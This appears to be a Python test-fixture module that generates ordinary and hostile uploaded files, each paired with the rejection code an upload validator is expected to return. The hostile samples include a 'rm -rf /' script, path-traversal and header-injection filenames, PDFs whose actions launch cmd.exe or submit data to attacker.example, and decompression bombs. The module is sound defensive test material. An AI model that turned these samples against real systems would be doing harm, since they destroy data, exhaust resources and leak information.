"""Papers made for tests: good ones as people send them, and hostile ones of every kind, all built here."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream
from PIL import Image, ImageDraw


def photograph(size: tuple[int, int] = (900, 1200), *, exif: bool = False, form: str = "JPEG") -> bytes:
    """Return a photograph of a paper; with ``exif`` it says where and with what it was taken, and lies on its side."""
    image = Image.new("RGB", size, "white")
    drawing = ImageDraw.Draw(image)
    for line in range(40, size[1] - 40, 30):
        drawing.line((40, line, size[0] - 40, line), fill=(line % 200, 40, 90), width=3)
    target = io.BytesIO()
    if exif:
        notes = Image.Exif()
        notes[0x0110] = "MotcuaPhone X"
        notes[0x0112] = 6
        notes.get_ifd(0x8825)[2] = (16.0, 4.0, 0.0)
        notes.get_ifd(0x8825)[1] = "N"
        image.save(target, form, exif=notes)
    else:
        image.save(target, form)
    return target.getvalue()


def pdf(change: Callable[[Pdf], None] = lambda made: None, *, pages: int = 2, **saved: object) -> bytes:
    """Return a PDF with so many pages, changed before it is saved."""
    made = pikepdf.new()
    for _ in range(pages):
        made.add_blank_page()
    change(made)
    target = io.BytesIO()
    # The same call gives the same bytes; a file with a password cannot be had so.
    made.save(target, deterministic_id="encryption" not in saved, **saved)
    return target.getvalue()


def signed_pdf() -> bytes:
    """Return a PDF/A-like file with a signature field, a second revision, and metadata, as an agency issues it."""

    def sign(made: Pdf) -> None:
        signature = made.make_indirect(
            Dictionary(
                Type=Name.Sig,
                Filter=Name("/Adobe.PPKLite"),
                SubFilter=Name("/ETSI.CAdES.detached"),
                ByteRange=Array([0, 100, 200, 300]),
                Contents=b"\x30\x82" + bytes(200),
            )
        )
        field = made.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Widget,
                FT=Name.Sig,
                T="Signature1",
                V=signature,
                Rect=Array([0, 0, 0, 0]),
            )
        )
        made.Root.AcroForm = Dictionary(Fields=Array([field]), SigFlags=3)
        made.pages[0].Annots = Array([field])
        with made.open_metadata() as metadata:
            metadata["pdfaid:part"] = "3"

    first = pdf(sign)
    # A later revision, as a time-stamp or a second signature appends one.
    at = len(first)
    start = int(first.rsplit(b"startxref\n", 1)[1].split()[0])
    added = b"900 0 obj\n<< /Note (second revision) >>\nendobj\n"
    with pikepdf.open(io.BytesIO(first)) as opened:
        root = opened.Root.objgen[0]
    table = b"xref\n900 1\n%010d 00000 n \n" % at
    trailer = b"trailer\n<< /Size 901 /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        root,
        start,
        at + len(added),
    )
    return first + added + table + trailer


def with_action(**action: object) -> bytes:
    """Return a PDF that does something by itself when it is opened."""
    return pdf(lambda made: setattr(made.Root, "OpenAction", Dictionary(**action)))


def _embedded(made: Pdf) -> None:
    made.attachments["malware.exe"] = pikepdf.AttachedFileSpec(made, b"MZ payload", filename="malware.exe")


def _form_xfa(made: Pdf) -> None:
    made.Root.AcroForm = Dictionary(Fields=Array(), XFA=made.make_stream(b"<xdp:xdp/>"))


def _external_stream(made: Pdf) -> None:
    stream = made.make_stream(b"")
    stream["/F"] = "//attacker.example/share/page.bin"
    made.pages[0].Contents = stream


def _page_action(made: Pdf) -> None:
    made.pages[0]["/AA"] = Dictionary(O=Dictionary(S=Name.URI, URI="https://attacker.example/seen"))


def _file_link(made: Pdf) -> None:
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([0, 0, 600, 800]),
        A=Dictionary(S=Name.URI, URI="file://attacker.example/share"),
    )
    made.pages[0].Annots = Array([made.make_indirect(link)])


def _media(made: Pdf) -> None:
    made.pages[0].Annots = Array(
        [made.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Movie, Rect=Array([0, 0, 9, 9])))]
    )


def _stream_bomb(made: Pdf) -> None:
    stream = Stream(made, b"")
    stream.write(deflated_zeros(400_000_000), filter=Name.FlateDecode)
    made.pages[0].Contents = stream


def _nested_bomb(made: Pdf) -> None:
    stream = Stream(made, b"")
    twice = zlib.compress(deflated_zeros(1_000_000_000))
    stream.write(twice, filter=Array([Name.FlateDecode, Name.FlateDecode]))
    made.pages[0].Contents = stream


def _image_bomb(made: Pdf) -> None:
    stream = Stream(made, b"\x00")
    stream.Type, stream.Subtype = Name.XObject, Name.Image
    stream.Width, stream.Height = 60_000, 60_000
    stream.ColorSpace, stream.BitsPerComponent = Name.DeviceGray, 8
    stream["/Filter"] = Name.JBIG2Decode
    made.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=made.make_indirect(stream)))


def _deep(made: Pdf) -> None:
    within = Array()
    for _ in range(90):
        within = Array([within])
    made.Root.Deep = within


def deflated_zeros(size: int) -> bytes:
    """Return so many zeros deflated, without ever holding them or packing more than a million."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    # After a full flush nothing refers back, so the packed million may be repeated.
    million = packer.compress(bytes(1_000_000)) + packer.flush(zlib.Z_FULL_FLUSH)
    rest = packer.compress(bytes(size % 1_000_000)) + packer.flush()
    header, adler_of_zeros = b"\x78\xda", size % 65_521 << 16 | 1
    return header + million * (size // 1_000_000) + rest + struct.pack("!L", adler_of_zeros)


def object_stream_bomb() -> bytes:
    """Return a PDF whose objects are packed in a stream that unpacks to 400 MB."""
    packed = deflated_zeros(400_000_000)
    body = (
        b"%%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n"
        % len(packed)
    )
    content = body + packed + b"\nendstream\nendobj\n"
    at = len(content)
    entries = b"".join(
        struct.pack("!BHB", kind, where, which) for kind, where, which in ((0, 0, 0), (1, 9, 0), (2, 1, 0))
    )
    xref = b"3 0 obj\n<< /Type /XRef /Size 3 /Root 2 0 R /W [1 2 1] /Length %d >>\nstream\n" % len(entries)
    return content + xref + entries + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % at


def png_bomb(width: int = 30_000, height: int = 30_000) -> bytes:
    """Return a PNG of a few hundred kilobytes that unpacks to 900 million points."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack("!L", len(body)) + kind + body + struct.pack("!L", zlib.crc32(kind + body))

    header = struct.pack("!2L5B", width, height, 8, 0, 0, 0, 0)
    rows = deflated_zeros((width + 1) * height)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def zipped(**members: str) -> bytes:
    """Return a ZIP archive of these members."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for name, text in members.items():
            archive.writestr(name.replace("__", "/"), text)
    return target.getvalue()


def _office() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return target.getvalue()


def _moving() -> bytes:
    frames = [Image.new("RGB", (400, 400), color) for color in ("red", "blue", "green")]
    target = io.BytesIO()
    frames[0].save(target, "WEBP", save_all=True, append_images=frames[1:], duration=100)
    return target.getvalue()


def _spelled_script() -> bytes:
    # The same name with a letter spelled in hexadecimal, in a file that is otherwise as the library writes it.
    plain = with_action(S=Name("/JavaXcript"), JX="app.alert(1)")
    return plain.replace(b"/JavaXcript", b"/Java#53cript").replace(b"/JX", b"/JX")[:]


def _hidden_revision() -> bytes:
    """Return a PDF whose newest revision has no script and whose first has one."""
    scripted = with_action(S=Name.JavaScript, JS="app.alert(1)")
    return scripted + pdf()[9:]


def hostile_papers() -> dict[str, tuple[str, Callable[[], bytes], str]]:
    """Return each hostile file by what it is: the name it comes with, how to make it, the fault it is refused for."""
    return {
        "zero bytes": ("giay.pdf", lambda: b"", "empty"),
        "too large": ("giay.jpg", lambda: photograph() + bytes(10 * 1024 * 1024), "too_large"),
        "hidden right-to-left name": ("giay\u202egpj.exe", photograph, "name_hidden"),
        "control characters in the name": ("giay\x00\r\nSet-Cookie: a=b.jpg", photograph, "name_hidden"),
        "path in the name": ("../../etc/cron.d/giay.jpg", photograph, "name_path"),
        "path of Windows in the name": ("..\\..\\Windows\\giay.jpg", photograph, "name_path"),
        "svg as png": (
            "anh.png",
            lambda: b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
            "svg",
        ),
        "html as jpg": ("anh.jpg", lambda: b"<!DOCTYPE html><script>alert(1)</script>", "html"),
        "html behind a byte-order mark": ("anh.pdf", lambda: b"\xef\xbb\xbf <HTML><body>x", "html"),
        "word as pdf": ("don.pdf", _office, "office"),
        "old word as pdf": ("don.pdf", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "office"),
        "exe as jpg": ("anh.jpg", lambda: b"MZ\x90\x00" + bytes(600), "program"),
        "elf as png": ("anh.png", lambda: b"\x7fELF" + bytes(600), "program"),
        "shell script as pdf": ("giay.pdf", lambda: b"#!/bin/sh\nrm -rf /\n", "script"),
        "zip as pdf": ("giay.pdf", lambda: zipped(a="x"), "zip"),
        "rar as jpg": ("anh.jpg", lambda: b"Rar!\x1a\x07\x01\x00" + bytes(600), "archive"),
        "gif": ("anh.gif", lambda: photograph(form="GIF"), "gif"),
        "heic of a phone": ("IMG_0001.HEIC", lambda: b"\0\0\0\x18ftypheic" + bytes(600), "heic"),
        "eicar": (
            "giay.pdf",
            lambda: b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
            "text",
        ),
        "png bomb": ("anh.png", png_bomb, "image_huge"),
        "moving image": ("anh.webp", _moving, "image_moving"),
        "cut jpeg": ("anh.jpg", lambda: photograph()[:9_000], "image_damaged"),
        "image too small to read": ("anh.png", lambda: photograph((60, 60), form="PNG"), "image_tiny"),
        "jpeg with a zip behind": ("anh.jpg", lambda: photograph() + zipped(a="x"), "with_archive"),
        "jpeg with a page behind": (
            "anh.jpg",
            lambda: photograph() + b"<html><script>alert(1)</script></html>",
            "with_page",
        ),
        "pdf with a zip behind": ("giay.pdf", lambda: pdf() + zipped(a="x"), "with_archive"),
        "pdf with a page in front": ("giay.pdf", lambda: b"<html><body>" + pdf(), "with_more"),
        "pdf with a page in a comment": (
            "giay.pdf",
            lambda: pdf().replace(b"\n", b"\n%<script>alert(1)</script>\n", 1),
            "with_page",
        ),
        "pdf with foreign data behind": ("giay.pdf", lambda: pdf() + b"foreign" * 400, "with_more"),
        "cut pdf": ("giay.pdf", lambda: pdf()[:-60], "pdf_damaged"),
        "pdf with a broken table": (
            "giay.pdf",
            lambda: pdf().replace(b"startxref\n", b"startxref\n9"),
            "pdf_damaged",
        ),
        "pdf with a password": (
            "giay.pdf",
            lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="b")),
            "pdf_encrypted",
        ),
        "pdf encrypted without a password": (
            "giay.pdf",
            lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="")),
            "pdf_encrypted",
        ),
        "pdf without pages": ("giay.pdf", lambda: pdf(pages=0), "pdf_empty"),
        "pdf with too many pages": ("giay.pdf", lambda: pdf(pages=301), "pdf_pages"),
        "pdf with a script": (
            "giay.pdf",
            lambda: with_action(S=Name.JavaScript, JS="app.alert(1)"),
            "pdf_script",
        ),
        "pdf with a script spelled otherwise": ("giay.pdf", _spelled_script, "pdf_script"),
        "pdf with a script in an older revision": ("giay.pdf", _hidden_revision, "pdf_script"),
        "pdf with a script in packed objects": (
            "giay.pdf",
            lambda: pdf(
                lambda made: setattr(
                    made.Root,
                    "Names",
                    made.make_indirect(Dictionary(X=Dictionary(S=Name.JavaScript, JS="app.alert(1)"))),
                ),
                object_stream_mode=pikepdf.ObjectStreamMode.generate,
            ),
            "pdf_script",
        ),
        "pdf that launches": ("giay.pdf", lambda: with_action(S=Name.Launch, F="cmd.exe"), "pdf_launch"),
        "pdf that sends a form": (
            "giay.pdf",
            lambda: with_action(S=Name.SubmitForm, F="https://attacker.example"),
            "pdf_external",
        ),
        "pdf that opens another file": (
            "giay.pdf",
            lambda: with_action(S=Name.GoToR, F="other.pdf"),
            "pdf_external",
        ),
        "pdf that opens an address by itself": (
            "giay.pdf",
            lambda: with_action(S=Name.URI, URI="https://attacker.example"),
            "pdf_external",
        ),
        "pdf page that calls out": ("giay.pdf", lambda: pdf(_page_action), "pdf_external"),
        "pdf link to a file share": ("giay.pdf", lambda: pdf(_file_link), "pdf_external"),
        "pdf stream in another file": ("giay.pdf", lambda: pdf(_external_stream), "pdf_external"),
        "pdf with an embedded file": ("giay.pdf", lambda: pdf(_embedded), "pdf_embedded"),
        "pdf with xfa": ("giay.pdf", lambda: pdf(_form_xfa), "pdf_xfa"),
        "pdf with a movie": ("giay.pdf", lambda: pdf(_media), "pdf_media"),
        "pdf stream bomb": (
            "giay.pdf",
            lambda: pdf(_stream_bomb, compress_streams=False),
            "pdf_bomb",
        ),
        "pdf nested bomb": (
            "giay.pdf",
            lambda: pdf(_nested_bomb, compress_streams=False),
            "pdf_bomb",
        ),
        "pdf image bomb": ("giay.pdf", lambda: pdf(_image_bomb), "pdf_bomb"),
        "pdf object-stream bomb": ("giay.pdf", object_stream_bomb, "pdf_bomb"),
        "pdf nested too deep": ("giay.pdf", lambda: pdf(_deep), "pdf_bomb"),
    }
